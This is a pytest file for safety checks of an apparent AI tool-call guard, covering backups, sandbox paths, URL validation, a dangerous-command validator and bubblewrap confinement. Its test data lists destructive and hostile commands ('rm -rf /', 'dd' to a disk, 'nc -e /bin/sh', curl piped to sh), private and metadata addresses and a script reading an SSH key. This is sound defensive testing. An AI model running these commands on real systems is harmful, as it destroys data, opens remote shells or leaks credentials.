"""The checks of a call: each passes and fails for its own reason; a crash or lateness blocks."""

from __future__ import annotations

import asyncio
import os
import subprocess
import threading
from collections.abc import Sequence
from pathlib import Path

import msgspec
import pytest

from adh.checks import run_checks as running
from adh.checks.check_context import CheckContext, CheckOutcome, explain_failures
from adh.checks.confinement import (
    NOT_CONFINED,
    Confinement,
    confine_words,
    find_confinement,
)
from adh.checks.protected_places import find_own_folder
from adh.checks.run_checks import CHECK_NAMES, run_checks
from adh.rules.facts import Access, CallFacts, CommandUse, PathUse
from adh.storage.search_path import DEFAULT_FOLDERS


def facts_of(path: Path | str, access: Access, **more: object) -> CallFacts:
    folder = str(Path(path).parent)
    facts = CallFacts(
        tool="write_file",
        arguments={},
        paths=(PathUse(str(path), access, "x"),),
        project=folder,
        folder=folder,
    )
    return msgspec.structs.replace(facts, **more)


async def run_one(name: str, facts: CallFacts, **more: object) -> CheckOutcome:
    context = msgspec.structs.replace(CheckContext(home="/people/ada"), **more)
    (outcome,) = await run_checks([name], facts, context)
    return outcome


def test_names_are_those_of_the_specification() -> None:
    assert {
        *("backup", "disk_space", "permission", "size_limit", "sensitive_data"),
        *("command_validator", "sandbox", "url_validator", "confirmation_double"),
    } == CHECK_NAMES


async def test_backup_is_made_once_for_each_file_that_changes(tmp_path: Path) -> None:
    file = tmp_path / "a.txt"
    file.write_text("old")
    saved: list[str] = []
    assert (await run_one("backup", facts_of(file, "write"), save_backup=saved.append)).passed
    assert saved == [str(file)]
    assert (
        await run_one("backup", facts_of(tmp_path / "new", "create"), save_backup=saved.append)
    ).passed
    assert (
        await run_one("backup", facts_of(file, "delete"), save_backup=saved.append, preview=True)
    ).passed
    assert saved == [str(file)]


async def test_backup_that_fails_blocks_without_its_text(tmp_path: Path) -> None:
    file = tmp_path / "a.txt"
    file.write_text("old")

    def fail(_: str) -> None:
        raise OSError(28, "disk full at /secret/place")

    outcome = await run_one("backup", facts_of(file, "write"), save_backup=fail)
    assert outcome == CheckOutcome(
        "backup", passed=False, detail="backup could not be checked (OSError)."
    )
    assert not (await run_one("backup", facts_of(file, "write"))).passed


async def test_backup_waits_for_the_other_checks(tmp_path: Path) -> None:
    file = tmp_path / "a.txt"
    file.write_text("old")
    saved: list[str] = []
    context = CheckContext(home="/people/ada", save_backup=saved.append)
    facts = facts_of(file, "write", arguments={"content": "AKIA" + "A" * 16})
    outcomes = await run_checks(["backup", "sensitive_data", "backup"], facts, context)
    assert [(one.name, one.passed) for one in outcomes] == [
        ("backup", True),
        ("sensitive_data", False),
    ]
    assert saved == []
    assert explain_failures(outcomes) == (
        "Safety check(s) failed: sensitive_data. The argument 'content' holds an AWS access key."
    )


async def test_disk_space(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    facts = facts_of(tmp_path / "new" / "deep.txt", "create", arguments={"content": "four"})
    assert (await run_one("disk_space", facts)).passed
    free = os.statvfs(tmp_path).f_bavail * os.statvfs(tmp_path).f_frsize
    monkeypatch.setattr(running, "SPARE_BYTES", free + 1_000_000_000)
    outcome = await run_one("disk_space", facts)
    assert not outcome.passed
    assert "no room for 4 bytes" in outcome.detail


async def test_size_limit(tmp_path: Path) -> None:
    file = tmp_path / "a.txt"
    file.write_text("12345")
    assert (await run_one("size_limit", facts_of(file, "read"), most_bytes=5)).passed
    assert not (await run_one("size_limit", facts_of(file, "read"), most_bytes=4)).passed
    large = facts_of(file, "write", arguments={"content": "€€"})
    assert not (await run_one("size_limit", large, most_bytes=5)).passed


@pytest.mark.skipif(os.geteuid() == 0, reason="root may write everywhere")
async def test_permission(tmp_path: Path) -> None:
    file = tmp_path / "a.txt"
    file.write_text("old")
    file.chmod(0o000)
    assert not (await run_one("permission", facts_of(file, "read"))).passed
    assert not (await run_one("permission", facts_of(file, "write"))).passed


@pytest.mark.parametrize(
    ("access", "refused"),
    [("read", "a.txt"), ("write", "a.txt"), ("create", "."), ("delete", "."), ("read", ".")],
)
async def test_permission_that_the_system_refuses(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, access: Access, refused: str
) -> None:
    file = tmp_path / "a.txt"
    file.write_text("old")
    assert (await run_one("permission", facts_of(file, access))).passed
    # Root may access everything, so the answer of the system is given here.
    monkeypatch.setattr(os, "access", lambda path, _: Path(path) != tmp_path / refused)
    outcome = await run_one("permission", facts_of(file, access))
    assert not outcome.passed
    assert str(tmp_path / refused) in outcome.detail


@pytest.mark.parametrize(
    ("path", "access", "passes"),
    [
        ("/project/a", "write", True),
        ("/project/../etc/passwd", "read", True),  # a path is resolved before; this one is not
        ("/etc/passwd", "read", False),
        ("/people/ada/.ssh/id_rsa", "read", False),
        ("/people/ada/.sshx", "read", True),
        ("/people/ada/notes", "write", False),
        ("/project", "delete", False),
        ("/own/policies/a.yaml", "read", False),
        ("/dev/null", "write", True),
        ("/dev/sda", "write", False),
    ],
)
async def test_sandbox(path: str, access: Access, passes: bool) -> None:
    use = PathUse(path, access, "x")
    direct = facts_of("/project/x", "read", paths=(use,))
    command = facts_of(
        "/project/x", "read", paths=(), commands=(CommandUse(("cat",), "cat", (use,)),)
    )
    for facts in (direct, command):
        assert (await run_one("sandbox", facts, own_folders=("/own",))).passed is passes


def test_own_folders_cannot_be_changed_by_a_tool() -> None:
    assert find_own_folder(facts_of("/own/policies/a.yaml", "write"), ["/own"])
    assert find_own_folder(facts_of("/own", "delete"), ["/own/policies"])
    assert not find_own_folder(facts_of("/own/policies/a.yaml", "read"), ["/own"])


@pytest.mark.parametrize(
    ("url", "addresses", "problem"),
    [
        ("https://example.org/", ["93.184.216.34"], ""),
        ("https://example.org/", ["93.184.216.34", "10.0.0.1"], "leads to a private address"),
        ("https://example.org/", ["::ffff:127.0.0.1"], "leads to a private address"),
        ("https://example.org/", ["64:ff9b::a00:1"], "leads to a private address"),
        ("https://example.org/", ["fe80::1%eth0"], "leads to a private address"),
        ("http://localhost:1/", ["::1"], "not a public address"),
        ("http://169.254.169.254/", ["169.254.169.254"], "not a public address"),
        ("ftp://example.org/", [], "the scheme"),
        ("https://ann:pw@example.org/", [], "user name"),
        ("https://", [], "no host"),
        ("https://[::1", [], "malformed"),
        ("https://exa mple.org/", [], "space"),
        ("https://nowhere.invalid/", [], "cannot be found"),
    ],
)
async def test_url_validator(url: str, addresses: Sequence[str], problem: str) -> None:
    async def resolve(_: str) -> Sequence[str]:
        return addresses

    for facts in (
        facts_of("/project/x", "read", urls=(url,)),
        facts_of("/project/x", "read", commands=(CommandUse(("curl",), "curl", urls=(url,)),)),
    ):
        outcome = await run_one("url_validator", facts, resolve_host=resolve)
        assert outcome.passed is (not problem)
        assert problem in outcome.detail


async def test_no_host_is_searched_before_the_approval() -> None:
    async def resolve(host: str) -> Sequence[str]:
        raise AssertionError(host)

    facts = facts_of("/project/x", "read", urls=("https://what-i-found.evil.example/",))
    assert (await run_one("url_validator", facts, resolve_host=resolve, preview=True)).passed


async def test_private_host_that_a_rule_allows() -> None:
    facts = facts_of("/project/x", "read", urls=("http://localhost:1/",))
    assert (await run_one("url_validator", facts, private_hosts=("localhost:1",))).passed
    assert not (await run_one("url_validator", facts, private_hosts=("localhost:2",))).passed


@pytest.mark.parametrize(
    "words",
    [
        "rm -rf /",
        "rm -fr ~/",
        "rm --recursive --force /people/ada",
        "mkfs.ext4 /dev/sda1",
        "dd if=x of=/dev/sda",
        "chmod -R 777 /",
        "kill -9 -1",
        "nc -e /bin/sh example.org 1",
        "shutdown now",
        "iptables -F",
        "crontab -r",
    ],
)
async def test_command_validator_knows_dangers(words: str) -> None:
    facts = facts_of("/project/x", "read", commands=(CommandUse(tuple(words.split()), words),))
    outcome = await run_one("command_validator", facts)
    assert not outcome.passed
    assert "is dangerous" in outcome.detail


async def test_command_validator_refuses_to_run_a_download() -> None:
    fetch, shell = CommandUse(("curl", "https://x"), "curl https://x"), CommandUse(("sh",), "sh")
    facts = facts_of("/project/x", "read", commands=(fetch, shell))
    assert not (await run_one("command_validator", facts)).passed
    assert not (await run_one("command_validator", facts_of("/p/x", "read", unparsed="?"))).passed
    harmless = (CommandUse(("rm", "-rf", "build"), "rm -rf build"), CommandUse((None, "x"), "$x x"))
    assert (await run_one("command_validator", facts_of("/p/x", "read", commands=harmless))).passed


async def test_typed_name() -> None:
    facts = facts_of("/project/a.txt", "delete")
    assert (await run_one("confirmation_double", facts, must_type="a.txt", typed="a.txt")).passed
    assert not (await run_one("confirmation_double", facts, must_type="a.txt", typed="a")).passed
    assert not (await run_one("confirmation_double", facts)).passed
    assert (await run_one("confirmation_double", facts, must_type="a.txt", preview=True)).passed


async def test_unknown_check_blocks() -> None:
    assert not (await run_one("bakcup", facts_of("/project/x", "read"))).passed


async def test_late_check_blocks(monkeypatch: pytest.MonkeyPatch) -> None:
    waited: list[float] = []
    answer = threading.Event()

    def hang(_facts: CallFacts, _context: CheckContext) -> str:
        answer.wait(30)
        return ""

    async def pass_time(seconds: float) -> None:
        waited.append(seconds)

    monkeypatch.setattr(running, "BLOCKING_CHECKS", {"disk_space": hang})
    try:
        outcome = await run_one("disk_space", facts_of("/project/x", "read"), wait=pass_time)
    finally:
        answer.set()
    assert not outcome.passed
    assert outcome.detail == "disk_space took longer than 5 seconds."
    assert waited == [5.0]


async def test_late_host_blocks_and_its_search_is_cancelled() -> None:
    ended: list[str] = []

    async def hang(_: str) -> Sequence[str]:
        try:
            await asyncio.Event().wait()
        finally:
            ended.append("cancelled")
        return ()

    async def pass_time(_: float) -> None:
        await asyncio.sleep(0)

    facts = facts_of("/project/x", "read", urls=("https://example.org/",))
    assert not (await run_one("url_validator", facts, resolve_host=hang, wait=pass_time)).passed
    assert ended == ["cancelled"]


async def test_the_person_reads_whether_a_command_is_confined() -> None:
    facts = facts_of("/project/x", "read", effects=frozenset({"executes_process"}))
    assert "not confined: bubblewrap is not installed" in (await run_one("sandbox", facts)).detail
    confined = await run_one("sandbox", facts, confinement=Confinement("/usr/bin/bwrap"))
    assert confined.detail == "The command runs confined: it can write to the project only."


def test_bubblewrap_that_does_not_start_is_none(tmp_path: Path) -> None:
    assert find_confinement([str(tmp_path)]) == NOT_CONFINED
    fake = tmp_path / "bwrap"
    fake.write_text("#!/bin/sh\nexit 1\n")
    fake.chmod(0o755)
    assert find_confinement([str(tmp_path)]).problem == "bubblewrap may not make namespaces here"
    fake.write_text("no program")
    assert "does not start" in find_confinement([str(tmp_path)]).problem


def test_confined_command_writes_to_the_project_only(tmp_path: Path) -> None:
    confinement = find_confinement(DEFAULT_FOLDERS)
    if not confinement.program:
        pytest.skip(confinement.problem)
    project, home, outside = tmp_path / "project", tmp_path / "home", tmp_path / "outside"
    for folder in (project, home / ".ssh", outside):
        folder.mkdir(parents=True)
    (home / ".ssh" / "id_rsa").write_text("key")
    (outside / "kept").write_text("kept")
    script = (
        f"echo a > made; cat {home}/.ssh/id_rsa; rm {outside}/kept; echo x > {outside}/new; pwd"
    )
    words = confine_words(confinement, str(project), str(project), [str(home / ".ssh")])
    done = subprocess.run(
        [*words, "sh", "-c", script], capture_output=True, text=True, timeout=20, check=False
    )
    assert done.stdout == f"{project}\n"
    assert (project / "made").read_text() == "a\n"
    # The rest of the temporary folder does not even exist for it.
    assert (outside / "kept").read_text() == "kept"
    assert not (outside / "new").exists()
